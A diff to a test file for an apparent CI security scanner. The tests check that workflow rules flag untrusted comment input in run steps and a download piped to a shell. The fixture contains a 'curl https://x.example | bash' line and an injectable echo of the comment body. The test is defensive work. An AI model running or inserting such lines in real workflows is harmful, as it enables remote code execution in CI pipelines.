@@ -61,7 +61,9 @@ def test_workflow_lines_point_into_block_scripts():
             "          echo \"${{ github.event.comment.body }}\"\n          curl -s https://x.example | bash\n")
     got = found(".github/workflows/bot.yml", text)
     assert ("gha-untrusted-input-in-run", 8) in got and ("gha-download-pipe-to-shell", 9) in got
-    assert not found("ci/bot.yml", text)
+    # the same workflow kept elsewhere is read by its content (filekind); YAML that is no workflow is not
+    assert found("ci/bot.yml", text) == got
+    assert not found("ci/bot.yml", text.replace("jobs:", "tasks:"))
 
 
 def test_pull_request_target_needs_the_trigger():
